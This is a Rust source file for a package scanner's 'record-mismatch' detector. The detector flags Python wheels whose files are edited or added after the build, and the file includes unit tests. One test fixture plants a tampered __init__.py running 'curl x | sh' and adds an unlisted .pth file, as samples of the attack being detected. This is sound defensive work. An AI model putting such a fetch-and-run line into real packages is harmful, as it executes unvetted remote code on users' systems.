//! `record-mismatch`: a wheel's files disagree with its `.dist-info/RECORD`.
//!
//! **What it detects.** RECORD lists every file of a wheel with its sha256
//! (`path,sha256=<urlsafe base64, no padding>,size`). The detector compares it with the
//! sha256 the reader computed for each member and reports, in one finding, files whose
//! hash differs and files present in the archive but absent from RECORD (RECORD itself
//! and its signatures `RECORD.jws`/`RECORD.p7s` excepted). A wheel without RECORD is
//! reported too: the wheel spec requires it.
//!
//! **Why it is risky.** Build tools write RECORD last, from the files they packed. A
//! file that is unlisted or hashes differently was added or edited afterwards — the
//! usual way to slip a `.pth` file or a patched `__init__.py` into a re-uploaded copy of
//! a real project's wheel.
//!
//! **Example.** `demo-1.0-py3-none-any.whl` with `demo/__init__.py` edited after the
//! build, or an extra `demo-init.pth` not named in RECORD. Not flagged: a wheel whose
//! RECORD matches, including entries hashed with another algorithm (sha384/sha512)
//! that cannot be recomputed here and the RECORD row's own empty hash.
//!
//! **Not read, compared by size.** Members over 1 MiB that no detector reads (native
//! libraries, data) are not inflated past their first bytes (`artifact::member::Unread`),
//! so their hash is unknown: for them the size RECORD gives is compared with the size
//! the archive declares, which is what an installer writes.
//!
//! **Remedy.** Do not install it; fetch the wheel from the project's official release.

use super::filename;
use crate::alerts::AlertId;
use crate::artifact::{Artifact, ArtifactKind, Member};
use crate::finding::Finding;
use base64::Engine;
use std::collections::HashMap;

/// Paths named in the finding, per category.
const SHOWN: usize = 5;

/// Runs the detector (wheels only).
pub fn check(artifact: &Artifact) -> Vec<Finding> {
    if artifact.kind != ArtifactKind::Wheel {
        return Vec::new();
    }
    let Some(record) = record_member(artifact) else {
        return vec![Finding::new(
            AlertId::RecordMismatch,
            "",
            "wheel has no .dist-info/RECORD (required by the wheel spec); its files cannot be verified",
        )];
    };
    let Some(text) = record.text() else {
        // Too large to keep: the reader already raised archive-limit-exceeded.
        return Vec::new();
    };
    let dist_info = record.path.rsplit_once('/').map(|(d, _)| d).unwrap_or("");
    let mut listed: HashMap<String, Listed> = HashMap::new();
    for line in text.lines() {
        let fields = crate::artifact::record_csv::fields(line);
        let Some(path) = fields.first().map(|p| normalize(p)).filter(|p| !p.is_empty()) else {
            continue;
        };
        let hash = fields.get(1).map(|h| h.trim().to_string()).filter(|h| !h.is_empty());
        let size = fields.get(2).and_then(|n| n.trim().parse::<u64>().ok());
        listed.insert(path, Listed { hash, size });
    }

    let mut differs: Vec<(&Member, String)> = Vec::new();
    let mut unlisted: Vec<&Member> = Vec::new();
    let mut unhashed: Vec<&Member> = Vec::new();
    for m in artifact.own_members() {
        let path = normalize(&m.path);
        if is_record_or_signature(&path, dist_info) {
            continue;
        }
        match listed.get(&path) {
            None => unlisted.push(m),
            Some(Listed { hash: None, .. }) => unhashed.push(m),
            Some(Listed { hash: Some(hash), size }) => {
                let verdict = match &m.sha256 {
                    Some(actual) => verify(hash, actual),
                    None if size.is_some_and(|n| n != m.size) => Verify::Differs,
                    None => Verify::Match,
                };
                match verdict {
                    Verify::Match | Verify::OtherAlgorithm => {}
                    Verify::Differs => differs.push((m, hash.clone())),
                }
            }
        }
    }
    if differs.is_empty() && unlisted.is_empty() && unhashed.is_empty() {
        return Vec::new();
    }
    let mut parts = Vec::new();
    if !differs.is_empty() {
        parts.push(describe(differs.len(), "differs from its RECORD hash", "differ from their RECORD hashes", differs.iter().map(|(m, _)| *m)));
    }
    if !unlisted.is_empty() {
        parts.push(describe(unlisted.len(), "is not listed in RECORD", "are not listed in RECORD", unlisted.iter().copied()));
    }
    if !unhashed.is_empty() {
        parts.push(describe(unhashed.len(), "is listed without a hash", "are listed without a hash", unhashed.iter().copied()));
    }
    let evidence = match differs.first() {
        Some((m, hash)) => match &m.sha256 {
            Some(actual) => format!("{}: RECORD {hash}, actual sha256={}", m.path, urlsafe(actual)),
            None => format!("{}: RECORD {hash} of another size, actual size {}", m.path, m.size),
        },
        None => unlisted.first().or(unhashed.first()).map(|m| m.path.clone()).unwrap_or_default(),
    };
    vec![Finding::new(AlertId::RecordMismatch, record.path.as_str(), parts.join("; ")).with_evidence(&evidence)]
}

fn describe<'a>(n: usize, one: &str, many: &str, members: impl Iterator<Item = &'a Member>) -> String {
    let shown: Vec<&str> = members.take(SHOWN).map(|m| m.path.as_str()).collect();
    let more = if n > SHOWN { format!(", and {} more", n - SHOWN) } else { String::new() };
    let verb = if n == 1 { one } else { many };
    format!("{n} file{} {verb}: {}{more}", if n == 1 { "" } else { "s" }, shown.join(", "))
}

/// The wheel's RECORD: `<dist>.dist-info/RECORD` at the top level, preferring the
/// dist-info directory named after the wheel's project.
fn record_member(artifact: &Artifact) -> Option<&Member> {
    let wanted = filename::parse_wheel(&artifact.filename).map(|i| filename::normalize_name(&i.name));
    let mut candidates = artifact.own_members().filter(|m| {
        let mut parts = m.path.split('/');
        matches!((parts.next(), parts.next(), parts.next()), (Some(d), Some("RECORD"), None) if d.ends_with(".dist-info"))
    });
    let first = candidates.next()?;
    let matches_name = |m: &Member| {
        let dir = m.path.split('/').next().unwrap_or("");
        let project = dir.trim_end_matches(".dist-info").rsplit_once('-').map(|(n, _)| n).unwrap_or(dir);
        wanted.as_deref() == Some(filename::normalize_name(project).as_str())
    };
    if matches_name(first) {
        return Some(first);
    }
    candidates.find(|m| matches_name(m)).or(Some(first))
}

fn is_record_or_signature(path: &str, dist_info: &str) -> bool {
    match path.rsplit_once('/') {
        Some((dir, base)) => dir == dist_info && matches!(base, "RECORD" | "RECORD.jws" | "RECORD.p7s"),
        None => false,
    }
}

fn normalize(path: &str) -> String {
    let mut p = path.trim();
    while let Some(rest) = p.strip_prefix("./") {
        p = rest;
    }
    p.to_string()
}

/// What RECORD says of one file.
struct Listed {
    hash: Option<String>,
    size: Option<u64>,
}

enum Verify {
    Match,
    Differs,
    /// Hashed with an algorithm other than sha256: cannot be recomputed from the reader.
    OtherAlgorithm,
}

fn verify(hash: &str, actual: &[u8; 32]) -> Verify {
    let Some((algo, digest)) = hash.split_once('=') else {
        return Verify::Differs;
    };
    if !algo.trim().eq_ignore_ascii_case("sha256") {
        return if matches!(algo.trim().to_ascii_lowercase().as_str(), "sha384" | "sha512" | "sha3_256" | "blake2b") {
            Verify::OtherAlgorithm
        } else {
            Verify::Differs
        };
    }
    let cleaned: String =
        digest.trim().trim_end_matches('=').chars().map(|c| match c { '+' => '-', '/' => '_', c => c }).collect();
    match base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(cleaned.as_bytes()) {
        Ok(bytes) if bytes.as_slice() == actual.as_slice() => Verify::Match,
        _ => Verify::Differs,
    }
}

fn urlsafe(digest: &[u8; 32]) -> String {
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(digest)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analysis::package::testutil::*;

    fn record_for(members: &[Member]) -> Vec<u8> {
        let mut out = String::new();
        for m in members {
            out.push_str(&format!("{},sha256={},{}\n", m.path, urlsafe(&m.sha256.expect("hashed")), m.size));
        }
        out.push_str("demo-1.0.dist-info/RECORD,,\n");
        out.into_bytes()
    }

    fn files() -> Vec<Member> {
        vec![
            member("demo/__init__.py", b"VERSION = '1.0'\n"),
            member("demo-1.0.dist-info/METADATA", b"Name: demo\nVersion: 1.0\n"),
            binary("demo/_data.bin", &[0, 1, 2, 3]),
        ]
    }

    fn wheel(members: Vec<Member>) -> Artifact {
        artifact("demo-1.0-py3-none-any.whl", ArtifactKind::Wheel, members)
    }

    #[test]
    fn consistent_wheel_passes() {
        let mut ms = files();
        let record = record_for(&ms);
        ms.push(member("demo-1.0.dist-info/RECORD", &record));
        ms.push(member("demo-1.0.dist-info/RECORD.jws", b"{}"));
        assert!(check(&wheel(ms)).is_empty());
    }

    #[test]
    fn edited_and_injected_files_are_reported_in_one_finding() {
        let mut ms = files();
        let record = record_for(&ms);
        ms[0] = member("demo/__init__.py", b"import os; os.system('curl x | sh')\n");
        ms.push(member("demo-init.pth", b"import demo.hook\n"));
        ms.push(member("demo-1.0.dist-info/RECORD", &record));
        let f = check(&wheel(ms));
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].alert, AlertId::RecordMismatch);
        assert_eq!(f[0].file, "demo-1.0.dist-info/RECORD");
        assert!(f[0].message.contains("1 file differs from its RECORD hash: demo/__init__.py"), "{}", f[0].message);
        assert!(f[0].message.contains("1 file is not listed in RECORD: demo-init.pth"), "{}", f[0].message);
    }

    #[test]
    fn wheel_without_record_is_reported_sdists_are_not_checked() {
        let f = check(&wheel(files()));
        assert_eq!(f.len(), 1);
        assert!(f[0].message.contains("no .dist-info/RECORD"));
        assert!(check(&artifact("demo-1.0.tar.gz", ArtifactKind::Sdist, files())).is_empty());
    }

    #[test]
    fn quoted_paths_and_other_algorithms() {
        assert_eq!(crate::artifact::record_csv::fields("\"a,b.py\",sha256=x,1"), ["a,b.py", "sha256=x", "1"]);
        assert_eq!(crate::artifact::record_csv::fields("\"q\"\"uote.py\",,"), ["q\"uote.py", "", ""]);
        let sha = member("x.py", b"x").sha256.expect("hashed");
        assert!(matches!(verify("sha512=abc", &sha), Verify::OtherAlgorithm));
        assert!(matches!(verify("md5=abc", &sha), Verify::Differs));
        assert!(matches!(verify(&format!("sha256={}", urlsafe(&sha)), &sha), Verify::Match));
    }

    /// A member read only to its head is compared by the size RECORD gives.
    #[test]
    fn unhashed_members_are_compared_by_size() {
        let lib = vec![7u8; 3000];
        let mut ms = files();
        ms.push(binary("demo/_native.so", &lib));
        let record = record_for(&ms);
        ms.pop();
        ms.push(unhashed("demo/_native.so", &lib));
        ms.push(member("demo-1.0.dist-info/RECORD", &record));
        assert!(check(&wheel(ms.clone())).is_empty());
        let grown = unhashed("demo/_native.so", &[7u8; 3001]);
        let at = ms.iter().position(|m| m.path == "demo/_native.so").expect("listed");
        ms[at] = grown;
        let found = check(&wheel(ms));
        assert_eq!(found.len(), 1, "{found:?}");
        assert!(found[0].message.contains("1 file differs from its RECORD hash: demo/_native.so"), "{}", found[0].message);
        assert!(found[0].evidence.contains("of another size, actual size 3001"), "{found:?}");
    }
}
